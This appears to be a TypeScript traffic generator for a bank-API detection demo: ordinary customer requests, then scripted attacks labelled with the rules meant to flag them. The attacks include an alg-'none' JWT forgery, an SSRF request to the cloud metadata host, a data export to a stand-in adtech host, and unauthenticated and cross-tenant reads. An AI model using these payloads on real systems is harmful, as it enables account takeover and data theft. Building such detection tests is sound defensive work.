import jwt from 'jsonwebtoken';
import { CUSTOMERS, type Customer } from './world.ts';

/** What the demo's clients do: ordinary customers first, then attacks that are each made of valid requests only. */

/** Where the clients' requests go, and what they may ask the token service for. */
export interface Target {
  readonly edgeUrl: string;
  readonly accountsUrl: string;
  readonly secret: string;
}

export interface Attack {
  /** Rule that should name it. */
  readonly rule: string;
  /** One sentence: what is done. */
  readonly story: string;
  readonly run: (target: Target) => Promise<void>;
}

/** Addresses that geolocation vendors publish as test data, so they belong to nobody in this story. */
const ADDRESSES = ['81.2.69.142', '81.2.69.160', '89.160.20.112', '89.160.20.128', '2.125.160.216', '216.160.83.56'];
const ATTACKER = '67.43.156.1';

export const tokenOf = (target: Target, customer: Customer): string =>
  jwt.sign({ sub: customer.id, tenant: customer.tenant, scope: 'accounts:read orders:write' }, target.secret, {
    issuer: 'demo-bank',
    expiresIn: 3600,
  });

async function send(url: string, from: string, token?: string, body?: unknown): Promise<void> {
  const headers: Record<string, string> = { 'x-forwarded-for': from };
  if (token !== undefined) headers['authorization'] = `Bearer ${token}`;
  if (body !== undefined) headers['content-type'] = 'application/json';
  const response = await fetch(
    url,
    body === undefined ? { headers } : { method: 'POST', headers, body: JSON.stringify(body) },
  );
  await response.arrayBuffer();
}

/** A day at the bank in small: every request has a legitimate reason, and several resemble an attack. Returns the number of requests. */
export async function ordinaryTraffic(target: Target, onRequest: () => void): Promise<void> {
  for (const [i, customer] of CUSTOMERS.entries()) {
    const token = tokenOf(target, customer);
    const from = ADDRESSES[i % ADDRESSES.length]!;
    const requests: (() => Promise<void>)[] = [
      () => send(`${target.edgeUrl}/api/accounts/${customer.account}`, from, token),
      () => send(`${target.edgeUrl}/api/customers/${customer.id}`, from, token),
      () =>
        send(`${target.edgeUrl}/api/orders`, from, token, {
          account: customer.account,
          symbol: 'ACME',
          quantity: 1 + (i % 7),
        }),
    ];
    if (i % 6 === 0)
      requests.push(() =>
        send(`${target.edgeUrl}/api/support/customers/${CUSTOMERS[(i + 7) % CUSTOMERS.length]!.id}`, from, token),
      );
    if (i % 10 === 0) requests.push(() => send(`${target.edgeUrl}/api/balances?ids=${customer.account}`, from, token));
    if (i % 12 === 0) requests.push(() => send(`${target.edgeUrl}/api/reports/${customer.tenant}`, from, token));
    if (i === 30)
      requests.push(() =>
        send(`${target.edgeUrl}/api/exports`, from, token, { to: 'statements.print-partner.example', limit: 5 }),
      );
    if (i === 31)
      requests.push(() =>
        send(`${target.edgeUrl}/api/avatars`, from, token, { host: 'images.cdn-partner.example', path: '/u/31.png' }),
      );
    if (i % 9 === 0) requests.push(() => send(`${target.edgeUrl}/api/accounts/acc-0`, from, token)); // a typing error: denied, and that is all
    for (const request of requests) {
      await request();
      onRequest();
    }
  }
}

const thief = CUSTOMERS[12]!;

export const ATTACKS: readonly Attack[] = [
  {
    rule: 'exposure/unauthenticated-sensitive-read',
    story: 'reads customer records through a version of the API that was forgotten and asks for no credential',
    run: async (target) => {
      for (let i = 1; i <= 8; i++) await send(`${target.edgeUrl}/api/v1/customers/cust-${i}`, ATTACKER);
    },
  },
  {
    rule: 'access/unauthorized-effect',
    story: 'places an order in which the account that pays is not the account that was checked',
    run: (target) =>
      send(`${target.edgeUrl}/api/orders`, ATTACKER, tokenOf(target, thief), {
        account: thief.account,
        settleFrom: CUSTOMERS[40]!.account,
        symbol: 'ACME',
        quantity: 5000,
      }),
  },
  {
    rule: 'access/principal-swap',
    story: 'uses the family view to have the gateway act as other customers',
    run: async (target) => {
      for (const victim of CUSTOMERS.slice(20, 24))
        await send(`${target.edgeUrl}/api/family/${victim.id}`, ATTACKER, tokenOf(target, thief));
    },
  },
  {
    rule: 'access/tenant-change',
    story: 'asks for a report of another tenant',
    run: (target) => send(`${target.edgeUrl}/api/reports/business`, ATTACKER, tokenOf(target, CUSTOMERS[0]!)),
  },
  {
    rule: 'access/gateway-bypass',
    story: 'talks to the accounts service directly, past the gateway',
    run: (target) => send(`${target.accountsUrl}/accounts/${thief.account}`, ATTACKER, tokenOf(target, thief)),
  },
  {
    rule: 'exfiltration/egress-after-read',
    story: 'has the customer list exported to an advertising host that nobody approved',
    run: (target) =>
      send(`${target.edgeUrl}/api/exports`, ATTACKER, tokenOf(target, thief), {
        to: 'audiences.adtech.example',
        limit: 50,
      }),
  },
  {
    rule: 'abuse/object-fan-out',
    story: 'reads all accounts with one request',
    run: (target) =>
      send(
        `${target.edgeUrl}/api/balances?ids=${CUSTOMERS.map(({ account }) => account).join(',')}`,
        ATTACKER,
        tokenOf(target, thief),
      ),
  },
  {
    rule: 'access/internal-egress',
    story: 'gives the address of the cloud metadata service as an avatar',
    run: (target) =>
      send(`${target.edgeUrl}/api/avatars`, ATTACKER, tokenOf(target, thief), {
        host: 'metadata.google.internal',
        path: '/computeMetadata/v1/',
      }),
  },
  {
    rule: 'access/alg-none-accepted',
    story: 'comes with a token that nobody signed',
    run: (target) => {
      const unsigned = jwt.sign({ sub: thief.id, tenant: thief.tenant }, '', { algorithm: 'none' });
      return send(`${target.edgeUrl}/api/mobile/accounts/${thief.account}`, ATTACKER, unsigned);
    },
  },
  {
    rule: 'exposure/sensitive-data-in-url',
    story: 'follows a reset link that carries its token in the URL',
    run: (target) =>
      send(`${target.edgeUrl}/api/reset?token=${'5ca1ab1e'.repeat(5)}&email=ada.novak%40example.com`, ADDRESSES[0]!),
  },
];
